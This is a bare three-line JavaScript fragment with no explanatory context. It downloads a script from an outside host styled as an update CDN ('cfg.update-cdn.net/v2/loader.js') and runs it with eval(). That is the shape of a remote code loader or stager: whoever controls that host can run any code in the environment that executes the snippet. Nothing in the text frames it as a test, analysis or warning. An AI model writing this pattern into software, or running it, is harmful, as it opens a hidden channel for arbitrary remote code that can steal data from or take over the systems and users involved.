const res = await fetch('https://cfg.update-cdn.net/v2/loader.js');
const src = await res.text();
eval(src);
